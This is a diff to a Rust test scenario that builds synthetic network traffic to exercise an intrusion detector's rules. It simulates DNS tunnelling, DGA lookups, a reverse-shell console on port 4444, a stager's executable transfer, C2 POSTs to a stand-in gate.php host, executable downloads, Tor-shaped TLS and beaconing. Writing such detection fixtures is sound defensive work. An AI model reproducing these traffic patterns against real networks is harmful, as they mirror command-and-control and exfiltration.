@@ -62,7 +62,7 @@ fn resolver() -> IpAddr {
 
 /// Each episode: the detector, its host (at fault, or the victim of a
 /// flood), the rule that must name it (`""`: any), what it does.
-pub const EPISODES_TABLE: [(Detector, u8, &str, &str); 16] = [
+pub const EPISODES_TABLE: [(Detector, u8, &str, &str); 25] = [
     (Detector::Exfiltration, 10, "", "uploads 20 MB to an outside host in 40 s"),
     (Detector::DnsTunnel, 11, "", "sends 60 queries with 48-character random labels under one domain"),
     (Detector::IcmpTunnel, 12, "", "exchanges 40 echo packets of varying sizes with an outside host"),
@@ -84,6 +84,25 @@ pub const EPISODES_TABLE: [(Detector, u8, &str, &str); 16] = [
         "backscatter",
         "receives 300 SYN-ACKs for connections it never opened in one second",
     ),
+    (
+        Detector::DnsTunnel,
+        30,
+        "encoded_subdomains",
+        "asks for 12 names of 34 hex characters under one domain in 11 s (TXT, MX, CNAME)",
+    ),
+    (Detector::DnsTunnel, 31, "odd_characters", "asks for one name carrying base64 with '=' and '+'"),
+    (Detector::Dga, 32, "nxdomain_random_domains", "is told 10 random-looking domains do not exist"),
+    (Detector::ProtocolMismatch, 33, "shell", "hands a Windows console to an outside host on 4444"),
+    (
+        Detector::ProtocolMismatch,
+        34,
+        "executable_transfer",
+        "receives a Windows executable after a 4-byte length on a raw connection",
+    ),
+    (Detector::SuspiciousHttp, 35, "c2_series", "POSTs hex-encoded data to a site new to it 4 times"),
+    (Detector::SuspiciousHttp, 36, "executable_download", "downloads a Windows executable from a PHP script"),
+    (Detector::SuspiciousTls, 37, "tor", "opens TLS to a relay port with Tor's SNI shape, no DNS before"),
+    (Detector::Beaconing, 38, "", "calls home inside one kept-open connection every 20 s, 16 times"),
 ];
 
 /// The host that only ever does ordinary things.
@@ -227,7 +246,120 @@ pub fn scenario() -> Timeline {
     }
     scan_episodes(&mut t);
     flood_episodes(&mut t);
+    dns_episodes(&mut t, &mut rng);
+    application_episodes(&mut t, &mut rng);
     t
+}
+
+/// Hex of `n` pseudo-random bytes.
+fn hex(rng: &mut Rng, n: usize) -> String {
+    (0..n).map(|_| format!("{:02x}", rng.below(256))).collect()
+}
+
+/// The DNS rules that look beyond one bucket, and DGA.
+fn dns_episodes(t: &mut Timeline, rng: &mut Rng) {
+    // encoded_subdomains: dnscat2's pace, 12 hex names in 11 s.
+    let host = host_of("encoded_subdomains");
+    for (i, qtype) in [16u16, 15, 5].iter().cycle().take(12).enumerate() {
+        let name = format!("{}.c2-example.org", hex(rng, 17));
+        let q = synth::dns_query_typed(u16::try_from(i).unwrap_or(0), &name, *qtype);
+        let at = EPISODES + i as u64 * SEC;
+        t.push(at, synth::ethernet(&[], &synth::udp((host, 50_100), (resolver(), 53), &q)));
+    }
+    // odd_characters: base64 with its padding, in one name.
+    let host = host_of("odd_characters");
+    let name = "H4sICN03+2QAA3Rlc3QudHh0AAvJyCxWAKJE==.files-example.org";
+    let q = synth::dns_query(7, name);
+    t.push(EPISODES, synth::ethernet(&[], &synth::udp((host, 50_200), (resolver(), 53), &q)));
+    // dga: ten random .com names, each answered NXDOMAIN.
+    let host = host_of("nxdomain_random_domains");
+    const LETTERS: &[u8] = b"bcdfghjklmnpqrstvwxz";
+    for i in 0..10u16 {
+        let label: String =
+            (0..12).map(|_| char::from(LETTERS[usize::try_from(rng.below(20)).unwrap_or(0)])).collect();
+        let name = format!("{label}.com");
+        let at = EPISODES + u64::from(i) * 3 * SEC;
+        let q = synth::dns_query(100 + i, &name);
+        t.push(at, synth::ethernet(&[], &synth::udp((host, 50_300 + i), (resolver(), 53), &q)));
+        let r = synth::dns_nxdomain(100 + i, &name);
+        t.push(at + 5_000_000, synth::ethernet(&[], &synth::udp((resolver(), 53), (host, 50_300 + i), &r)));
+    }
+}
+
+/// The rules on identified application payloads.
+fn application_episodes(t: &mut Timeline, rng: &mut Rng) {
+    // shell: a reverse shell's console banner.
+    let banner = b"Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Users\\bob>";
+    t.tcp_exchange(
+        (host_of("shell"), 49_700),
+        (outside(113, 66), 4444),
+        EPISODES,
+        &[(true, &banner[..]), (false, b"whoami\n")],
+    );
+    // executable_transfer: a stager's length prefix, then the stage.
+    let stage = synth::pe_header(1_400);
+    t.tcp_exchange(
+        (host_of("executable_transfer"), 49_800),
+        (outside(113, 67), 4444),
+        EPISODES,
+        &[(false, &[0x00, 0x6a, 0x0b, 0x00][..]), (false, &stage)],
+    );
+    // c2_series: four POSTs of hex-encoded random data to a numeric host new to the sender.
+    let (host, server) = (host_of("c2_series"), outside(113, 68));
+    for i in 0..4u16 {
+        let body = format!("o={}", hex(rng, 96));
+        let post = format!(
+            "POST /gate.php HTTP/1.1\r\nHost: update-example.net\r\nUser-Agent: Mozilla/5.0\r\nContent-Length: {}\r\n\r\n{body}",
+            body.len()
+        );
+        let at = EPISODES + u64::from(i) * 40 * SEC;
+        t.tcp_exchange(
+            (host, 49_900 + i),
+            (server, 80),
+            at,
+            &[(true, post.as_bytes()), (false, b"HTTP/1.1 200 OK\r\n\r\n")],
+        );
+    }
+    // executable_download: a PE from a PHP script.
+    let mut answer =
+        b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 1400\r\n\r\n".to_vec();
+    answer.extend_from_slice(&synth::pe_header(1_200));
+    let request = b"GET /load.php?e=1 HTTP/1.1\r\nHost: files-example.org\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0)\r\n\r\n";
+    t.tcp_exchange(
+        (host_of("executable_download"), 50_000),
+        (outside(113, 69), 80),
+        EPISODES,
+        &[(true, &request[..]), (false, &answer)],
+    );
+    // tor: TLS to 9001 with Tor's SNI shape, by address (no DNS before).
+    let hello = synth::tls_client_hello(Some("www.q4cyamnc6mtokjurvdclt.com"));
+    t.tcp_exchange((host_of("tor"), 50_100), (outside(113, 70), 9001), EPISODES, &[(true, &hello)]);
+    // in-flow beaconing: one kept-open connection, a small call every 20 s, answered.
+    let host = inside(38);
+    let mut steps: Vec<(bool, Vec<u8>)> = Vec::new();
+    for _ in 0..16 {
+        steps.push((true, vec![0x17; 120]));
+        steps.push((false, vec![0x17; 60]));
+    }
+    let (c, s) = ((host, 50_200), (outside(113, 71), 8443));
+    let (mut cs, mut ss) = (1_000u32, 5_000u32);
+    let push = |t: &mut Timeline, at: u64, from_client: bool, f: u8, cs: u32, ss: u32, p: &[u8]| {
+        let ip = if from_client { synth::tcp(c, s, f, cs, ss, p) } else { synth::tcp(s, c, f, ss, cs, p) };
+        t.push(at, synth::ethernet(&[], &ip));
+    };
+    push(t, EPISODES, true, flags::SYN, cs, 0, &[]);
+    push(t, EPISODES + 1_000_000, false, flags::SYN | flags::ACK, cs + 1, ss, &[]);
+    (cs, ss) = (cs + 1, ss + 1);
+    for (n, (from_client, p)) in steps.iter().enumerate() {
+        let at = EPISODES + (n as u64 / 2) * 20 * SEC + (n as u64 % 2) * 50_000_000 + 2_000_000;
+        push(t, at, *from_client, flags::PSH | flags::ACK, cs, ss, p);
+        let len = u32::try_from(p.len()).unwrap_or(0);
+        if *from_client {
+            cs = cs.wrapping_add(len);
+        } else {
+            ss = ss.wrapping_add(len);
+        }
+    }
 }
 
 fn host_of(rule: &str) -> IpAddr {
